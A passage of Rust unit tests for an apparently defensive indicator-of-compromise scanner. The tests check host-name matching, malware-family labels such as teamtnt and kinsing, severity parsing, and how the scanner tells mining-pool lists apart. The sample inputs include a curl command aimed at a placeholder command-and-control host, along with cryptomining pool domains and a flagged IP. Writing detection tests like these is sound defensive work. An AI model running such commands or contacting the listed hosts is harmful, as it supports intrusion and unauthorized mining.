        let gtld = dir.path().join("gtld.txt");
        std::fs::write(&gtld, "c2.example.northwesternmutual\n").unwrap();
        let long_label = IocSet::compile(&[gtld], false).unwrap();
        let hit = long_label.scan(b"curl https://C2.example.northwesternmutual/x", "/x").unwrap();
        assert_eq!(
            hit.iter().map(|hit| hit.indicator.as_str()).collect::<Vec<_>>(),
            ["c2.example.northwesternmutual"],
            "a long last label"
        );
        let long = format!("{}.supportxmr.com", "a".repeat(250));
        assert_eq!(found(&long), [], "longer than a host name can be");
        // A token is looked up whole only when its last two labels end a listed name.
        let deep = dir.path().join("deep.txt");
        std::fs::write(&deep, "cdn.evilhost.net\n").unwrap();
        let deep = IocSet::compile(&[deep], false).unwrap();
        let names = |text: &[u8]| deep.scan(text, "/x").unwrap().into_iter().map(|hit| (hit.indicator, hit.offset)).collect::<Vec<_>>();
        assert_eq!(names(b"src=//x.CDN.EvilHost.net/a.js"), [("cdn.evilhost.net".to_string(), 8)]);
        assert_eq!(names(b"www.evilhost.net evilhost.net dn.evilhost.net"), []);
    }

    #[test]
    fn a_family_line_names_the_family_of_the_hosts_below_it() {
        let dir = tempfile::tempdir().unwrap();
        let list = dir.path().join("case.txt");
        std::fs::write(&list, "# name: case\nfirst.example\n# family: teamtnt (a report)\nteamtnt.red\n# family: kinsing\n195.3.146.118\n")
            .unwrap();
        let set = IocSet::compile(&[list], false).unwrap();
        let families: Vec<(String, Option<String>)> = set
            .scan(b"first.example teamtnt.red 195.3.146.118", "/x")
            .unwrap()
            .into_iter()
            .map(|hit| (hit.indicator, hit.family))
            .collect();
        let want = |name: &str, family: Option<&str>| (name.to_string(), family.map(str::to_string));
        assert_eq!(families, [want("first.example", None), want("teamtnt.red", Some("teamtnt")), want("195.3.146.118", Some("kinsing"))]);
    }

    #[test]
    fn a_listed_host_takes_a_few_bytes() {
        // 150,000 built-in hosts: about 2.5 MB of names, 16 bytes of entry and 5 of table each.
        assert!(std::mem::size_of::<HostEntry>() <= 16);
        let set = IocSet::compile(&[], true).unwrap();
        assert!(set.hosts.entries.len() > 100_000);
        assert!(set.hosts.names.len() < 24 * set.hosts.entries.len());
    }

    #[test]
    fn builtin_lists_pass_their_examples_and_hashes_are_recognised() {
        let set = IocSet::compile(&[], true).unwrap();
        assert!(set.indicators() > 40);
        assert_eq!(sha256_indicator(&"ab".repeat(32)), "ab".repeat(32).parse().ok());
        assert_eq!(sha256_indicator(&format!("sha256:{}", "AB".repeat(32))), "ab".repeat(32).parse().ok());
        assert_eq!(sha256_indicator("supportxmr.com"), None);
    }

    #[test]
    fn a_list_header_names_a_known_severity_or_is_refused_with_its_line() {
        let list = |header: &str| parse_list("case.txt", &format!("# name: case\n{header}\n203.0.113.9\n"), |_, _| {});
        assert_eq!(list("# severity: Critical").map(|l| l.severity).ok(), Some(Severity::Critical));
        let err = list("# severity: crit").err().map(|e| e.to_string()).unwrap_or_default();
        assert!(err.starts_with("case.txt:2: unknown severity \"crit\""), "{err}");
        assert_eq!(list("# catalogue: 10").map(|l| l.catalogue).ok(), Some(Some(10)));
        let err = list("# catalogue: many").err().map(|e| e.to_string()).unwrap_or_default();
        assert!(err.starts_with("case.txt:2: catalogue: \"many\""), "{err}");
    }

    #[test]
    fn a_blob_naming_a_catalogue_of_pools_lists_them_rather_than_uses_them() {
        let set = IocSet::compile(&[], true).unwrap();
        let pools = |text: &str| {
            set.scan(text.as_bytes(), "/etc/falco/falco_rules.yaml").unwrap().iter().filter(|hit| hit.list.name == "mining-pool").count()
        };
        let seven = "supportxmr.com nanopool.org minexmr.com f2pool.com c3pool.com 2miners.com herominers.com";
        assert_eq!(pools(seven), 7, "seven pools: a kit's failover or its competitors");
        assert_eq!(pools(&format!("{seven} moneroocean.stream")), 0, "eight: a detection list");
    }
}
